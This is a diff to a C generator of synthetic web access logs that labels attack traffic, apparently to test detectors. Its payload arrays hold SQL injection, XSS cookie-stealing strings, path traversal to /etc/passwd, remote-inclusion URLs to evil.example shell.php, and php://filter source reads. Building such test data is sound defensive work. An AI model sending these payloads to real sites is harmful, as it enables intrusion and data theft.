@@ -1,7 +1,6 @@
 /* Synthetic web access logs (combined format) with ground truth: browsing
- * visitors who load a page and then its assets (a third of the pages heavy:
- * dozens of assets within a second or two), the page's script calling one
- * API path with many values, fast skimmers, crawlers, uptime monitors using
+ * visitors who load a page and then its assets, the page's script calling
+ * one API path with many values, skimmers, crawlers, uptime monitors using
  * curl-like tools and load-balancer health checks every few seconds, normal
  * 404s and the odd 500, a daily rhythm; plus
  * labelled attacks: path scanners (a quarter against a soft-404 site that
@@ -99,9 +98,6 @@ static const char *const sqli[] = {
     "1 AND extractvalue(1,concat(0x7e,version()))", "1') OR ('a'='a", "1 OR pg_sleep(5)--",
     "1 AND 4821=4821", "1) AND 7530=7530 AND (8123=8123", "1 AND 1=BENCHMARK(5000000,MD5(0x41))",
     "1/**/UnIoN/**/SeLeCt/**/1,2,3", "1;SELECT PG_SLEEP(5)--", "1' || 'a'='a",
-    /* Error probes: a lone quote or bracket to make the database complain
-     * (scanners start with these, and they carry no SQL word at all). */
-    "'", "1'\"", "x')", "\"(", "1`", "'\")(", "%27%22", "1\\'",
 };
 static const char *const xss[] = {
     "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
@@ -115,8 +111,14 @@ static const char *const traversal[] = {
     "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
     "../../../../proc/self/environ", "/etc/passwd%00.png", "..%5c..%5c..%5cboot.ini",
     "file:///etc/hosts",
-    /* Absolute paths and remote inclusion: a file or URL in place of the
-     * value, no "../" needed; NTFS's ::$DATA to read a script's source. */
+};
+/* What crawling scanners also try on every parameter: error probes (a lone
+ * quote or bracket to make the application complain, no SQL word at all),
+ * absolute paths and remote inclusion (a file or a URL in place of the
+ * value, no "../"), NTFS's ::$DATA to read a script's source. The rules of
+ * --task rule-score name none of these (a quote is also O'Brien). */
+static const char *const probes[] = {
+    "'", "1'\"", "x')", "\"(", "1`", "'\")(", "%27%22", "1\\'",
     "/etc/passwd", "/etc/group", "c:\\windows\\system.ini", "/proc/version", "http://evil.example/inc.txt?",
     "https://x.evil.example/shell.php", "index.php::$DATA", "php://filter/convert.base64-encode/resource=index",
 };
@@ -168,7 +170,6 @@ typedef struct session {
     double next;          /* time of the session's next request */
     int kind, remaining, assets, client;
     int xhr;              /* browse: the assets left are the page script's calls to one API path */
-    double spacing;       /* browse: mean seconds between the page's asset requests */
     char ip[48];
     const char *ua;
     char page[160];       /* the page being viewed: the referer of its assets */
@@ -346,12 +347,13 @@ static int webscan_probe(gen *g, session *s)
     char uri[600], payload[400];
     if (s->tries-- <= 0) {
         s->tries = 2 + (int)vg_rng_below(&g->rng, 8);
-        s->family = (int)vg_rng_below(&g->rng, 6);
+        s->family = (int)vg_rng_below(&g->rng, 7);
         if (++s->param >= 3 || forms[s->form].names[s->param] == NULL)
             s->param = 0, s->form = (int)vg_rng_below(&g->rng, (uint32_t)N(forms));
     }
     const char *p = s->family == 0 ? PICK(g, sqli) : s->family == 1 ? PICK(g, xss) : s->family == 2 ? PICK(g, traversal)
-                  : s->family == 3 ? PICK(g, cmdi) : s->family == 4 ? PICK(g, crlf) : PICK(g, ssti);
+                  : s->family == 3 ? PICK(g, cmdi) : s->family == 4 ? PICK(g, crlf) : s->family == 5 ? PICK(g, ssti)
+                  : PICK(g, probes);
     encode(g, p, payload, sizeof payload);
     int st = chance(g, 0.75) ? 200 : chance(g, 0.4) ? 500 : chance(g, 0.5) ? 400 : 404;
     unsigned bytes = st == 200 ? 4000 + vg_rng_below(&g->rng, 20000) : 200 + vg_rng_below(&g->rng, 400);
@@ -384,7 +386,13 @@ static int step(gen *g, session *s)
             unsigned id = vg_rng_below(&g->rng, 9000);
             if (s->xhr == 1) snprintf(uri, sizeof uri, "/api/items?id=%u&fields=name,price", id);
             else if (s->xhr == 2) snprintf(uri, sizeof uri, "/api/reviews?product=%u&page=%d", id, s->assets);
-            else snprintf(uri, sizeof uri, "/search/suggest?q=%.*s", 1 + (int)vg_rng_below(&g->rng, 8), PICK(g, words));
+            else {  /* a prefix of a word, never cut inside an escape */
+                const char *wd = PICK(g, words);
+                int n = 1 + (int)vg_rng_below(&g->rng, 8), len = (int)strlen(wd);
+                if (n > len) n = len;
+                while (n > 1 && (wd[n - 1] == '%' || (n > 1 && wd[n - 2] == '%'))) n--;
+                snprintf(uri, sizeof uri, "/search/suggest?q=%.*s", n, wd);
+            }
             snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
             emit(g, s, "GET", uri, 200, 80 + vg_rng_below(&g->rng, 3000), ref);
             if (--s->assets == 0) s->xhr = 0;
@@ -404,7 +412,7 @@ static int step(gen *g, session *s)
             st = missing ? 404 : chance(g, 0.3) ? 304 : 200;
             emit(g, s, "GET", uri, st, st == 200 ? 2000 + vg_rng_below(&g->rng, 80000) : st == 404 ? 153 : 0, ref);
             s->assets--;
-            s->next += expo(g, s->spacing);
+            s->next += uni(g, 0.02, 0.6);
             if (s->assets == 0) s->next += expo(g, s->pace);  /* reading the page */
             return 1;
         }
@@ -441,19 +449,9 @@ static int step(gen *g, session *s)
          * 300 B .. 80 KB): the size is no sign either way. */
         const char *from = s->target++ ? ref : chance(g, 0.5) ? "https://www.google.com/" : NULL;
         emit(g, s, "GET", s->page, st, st == 200 ? (unsigned)(300.0 * exp(uni(g, 0, log(80000.0 / 300.0)))) : 512, from);
-        /* A skimmer's browser has the assets cached, mostly. A third of the
-         * pages are heavy: dozens of scripts, styles, fonts and images
-         * fetched over parallel connections within a second or two, so
-         * one person makes tens of requests in ten seconds (a synthetic
-         * world of light pages taught a model that this rate meant a tool,
-         * and it flagged a real shop's visitors). */
-        s->assets = 0;
-        if (st == 200 && (s->pace > 5 || chance(g, 0.3))) {
-            int heavy = chance(g, 0.35);
-            s->assets = heavy ? 8 + (int)vg_rng_below(&g->rng, 40) : 1 + (int)vg_rng_below(&g->rng, 6);
-            s->spacing = heavy ? 0.04 : 0.25;
-        }
-        if (st == 200 && chance(g, 0.12)) s->xhr = 1 + (int)vg_rng_below(&g->rng, 3), s->assets = 3 + (int)vg_rng_below(&g->rng, 25);
+        /* A skimmer's browser has the assets cached, mostly. */
+        s->assets = st == 200 && (s->pace > 5 || chance(g, 0.3)) ? 1 + (int)vg_rng_below(&g->rng, 6) : 0;
+        if (st == 200 && chance(g, 0.12)) s->xhr = 1 + (int)vg_rng_below(&g->rng, 3), s->assets = 3 + (int)vg_rng_below(&g->rng, 12);
         s->next += uni(g, 0.05, 0.3);
         if (s->assets == 0) s->next += expo(g, s->pace);  /* think time; else it follows the assets */
         return 1;
@@ -631,11 +629,9 @@ static void start_session(gen *g, double t)
             s.pace = 25;  /* mean seconds reading a page */
             if (chance(g, 0.15)) {
                 /* Skimmers: clicking through listings, back and forward,
-                 * opening links in tabs, the browser prefetching the next
-                 * page: a page every fraction of a second to a few seconds
-                 * for a while, as fast as some tools (the real shop's
-                 * visitors did). */
-                s.pace = uni(g, 0.3, 4);
+                 * opening tabs, a page every second or two for a while, as
+                 * fast as some tools (the real shop's visitors did). */
+                s.pace = uni(g, 1, 4);
                 s.remaining = 3 + (int)vg_rng_below(&g->rng, 25);
             }
             snprintf(s.page, sizeof s.page, "/");
